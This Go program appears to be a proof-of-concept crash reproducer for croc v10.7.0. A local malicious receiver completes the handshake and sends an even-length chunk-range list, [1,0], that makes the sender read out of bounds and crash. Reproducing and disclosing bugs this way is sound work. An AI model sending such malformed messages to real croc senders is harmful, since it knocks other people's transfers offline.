// crash: croc src/croc/croc.go:1378 github.com/schollz/croc/v10@v10.7.0
// A receiver who knows the code asks for a list of chunk ranges with an even
// number of elements: the sender's goroutine reads beyond the end of the list.
package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"time"

	"github.com/schollz/croc/v10/src/comm"
	"github.com/schollz/croc/v10/src/croc"
	"github.com/schollz/croc/v10/src/crypt"
	"github.com/schollz/croc/v10/src/message"
	"github.com/schollz/croc/v10/src/tcp"
	"github.com/schollz/pake/v3"
)

const (
	secret   = "1234-some-secret-words"
	password = "pass123"
	curve    = "p256"
)

// receive is a receiver that does not mean well.
func receive(port int) error {
	sum := sha256.Sum256([]byte(secret[:4] + "croc"))
	c, _, _, err := tcp.ConnectToTCPServer(fmt.Sprintf("127.0.0.1:%d", port), password, hex.EncodeToString(sum[:]))
	if err != nil {
		return err
	}
	if err := c.Send([]byte("handshake")); err != nil {
		return err
	}
	p, err := pake.InitCurve([]byte(secret[5:]), 0, curve)
	if err != nil {
		return err
	}
	err = message.Send(c, nil, message.Message{Type: message.TypePAKE, Bytes: p.Bytes(), Bytes2: []byte(curve)})
	if err != nil {
		return err
	}
	m, err := answer(c)
	if err != nil {
		return err
	}
	if err := p.Update(m.Bytes); err != nil {
		return err
	}
	key, err := p.SessionKey()
	if err != nil {
		return err
	}
	if key, _, err = crypt.New(key, m.Bytes2); err != nil {
		return err
	}
	return message.Send(c, key, message.Message{
		Type:  message.TypeRecipientReady,
		Bytes: []byte(`{"CurrentFileChunkRanges":[1,0]}`),
	})
}

// answer reads a message that is no ping.
func answer(c *comm.Comm) (message.Message, error) {
	for {
		b, err := c.Receive()
		if err != nil {
			return message.Message{}, err
		}
		if len(b) > 1 {
			return message.Decode(nil, b)
		}
	}
}

func main() {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Println(err)
		return
	}
	port := l.Addr().(*net.TCPAddr).Port
	l.Close()
	dir, err := os.MkdirTemp("", "crash")
	if err != nil {
		fmt.Println(err)
		return
	}
	file := filepath.Join(dir, "file")
	if err := os.WriteFile(file, []byte("hello"), 0o600); err != nil {
		fmt.Println(err)
		return
	}
	c, err := croc.New(croc.Options{
		IsSender:         true,
		SharedSecret:     secret,
		RelayPorts:       []string{fmt.Sprint(port), fmt.Sprint(port + 1)},
		RelayPassword:    password,
		NoPrompt:         true,
		OnlyLocal:        true,
		DisableClipboard: true,
		Curve:            curve,
		HashAlgorithm:    "xxhash",
		MulticastAddress: "239.255.255.250",
	})
	if err != nil {
		fmt.Println(err)
		return
	}
	files, folders, n, err := croc.GetFilesInfo([]string{file}, false, false, nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	go func() { fmt.Println(c.Send(files, folders, n)) }()
	time.Sleep(2 * time.Second)
	if err := receive(port); err != nil {
		fmt.Println(err)
	}
	time.Sleep(5 * time.Second)
	fmt.Println("survived")
}
